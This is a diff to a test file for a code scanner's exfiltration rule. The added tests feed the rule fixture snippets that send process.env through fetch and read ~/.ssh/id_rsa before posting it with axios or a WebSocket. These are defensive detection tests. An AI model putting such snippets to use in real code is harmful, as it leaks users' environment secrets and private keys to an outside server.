@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest'
 import { exfiltration } from '../../../src/scanner/rules/exfiltration'
-import { hitsOf } from '../helpers'
+import { astHits, hitsOf } from '../helpers'
 
 describe('exfiltration', () => {
   it('is an error with CWE-200', () => {
@@ -237,5 +237,27 @@ describe('exfiltration: publishing and mailing in prose', () => {
         ].join('\n'),
       }),
     ).toEqual(['error exfiltration SKILL.md:3:12', 'error exfiltration SKILL.md:4:1'])
+  })
+})
+
+describe('exfiltration: its AST visitor', () => {
+  const sends = 'sends environment variables or a sensitive file over the network'
+  it('follows the environment and sensitive files into a network call, through one alias', () => {
+    const text = [
+      'fetch(u, { method: \'POST\', body: JSON.stringify(process.env) })',
+      'const key = require(\'fs\').readFileSync(os.homedir() + \'/.ssh/id_rsa\')',
+      'const payload = { k: key }',
+      'require(\'axios\').post(u, payload)',
+      'new WebSocket(u).send(key)',
+    ].join('\n')
+    expect(astHits('exfiltration', text)).toEqual([
+      `fetch(u, { method: 'POST', body: JSON.stringify(process.env) }): ${sends}`,
+      `require('axios').post(u, payload): ${sends}`,
+    ])
+  })
+  it('ignores other data, reads of ordinary files, and a module\'s own asset', () => {
+    const text = 'const cfg = require(\'fs\').readFileSync(\'config.json\')\nfetch(u, { body: cfg })\n'
+      + 'fetch(new URL(\'./a.json\', import.meta.url), process.env)\nfetch(u)\n'
+    expect(astHits('exfiltration', text)).toEqual([])
   })
 })
